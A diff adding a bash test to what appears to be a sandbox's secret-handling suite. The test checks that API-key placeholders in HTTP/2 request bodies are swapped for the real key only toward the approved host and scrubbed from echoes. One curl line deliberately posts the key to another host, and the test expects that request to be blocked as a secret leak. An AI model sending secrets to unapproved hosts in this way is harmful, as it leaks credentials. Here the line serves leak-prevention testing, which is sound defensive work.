@@ -47,6 +47,22 @@ t_h2_header_gets_the_key_and_the_echo_is_scrubbed() {
 	expect_no_real
 }
 
+t_h2_request_bodies_get_the_key() {
+	: >"$SRV/h2requests.log"
+	ml run "${IMG[@]}" "${API[@]}" --allow-host other.test:9443 --add-host other.test:127.0.0.1 -- sh -c '
+		curl --http2 -sS -d "grant_type=client_credentials&client_secret=$API_KEY" https://api.test:9443/echo; echo
+		curl --http2 -sS -H "Content-Type: application/json" -d "{\"key\": \"$API_KEY\"}" https://api.test:9443/echo; echo
+		curl --http2 -sS -w "\nbody_to_other=%{http_code}\n" -d "k=$API_KEY" https://other.test:9443/echo'
+	expect_eq status "$RC" 0
+	[[ $(h2log) == *"body: grant_type=client_credentials&client_secret=$REAL"* ]] || fail "form body: upstream got: $(h2log)"
+	[[ $(h2log) == *"body: {\"key\": \"$REAL\"}"* ]] || fail "json body: upstream got: $(h2log)"
+	[[ $(h2log) != *SANDBOX_SECRET_* ]] || fail "a placeholder reached an upstream: $(h2log)"
+	expect_match "echoed body scrubbed" "$OUT" "client_secret=SANDBOX_SECRET_[0-9a-f]{32}"
+	expect_match "a body toward another host is refused" "$OUT" "body_to_other=403"
+	expect_match "secret_leak event" "$ERR" "secret_leak blocked POST https://other.test:9443/echo"
+	expect_no_real
+}
+
 t_h2_placeholder_to_another_host_is_refused() {
 	: >"$SRV/h2requests.log"
 	ml run "${IMG[@]}" "${API[@]}" --allow-host other.test:9443 --add-host other.test:127.0.0.1 -- sh -c \
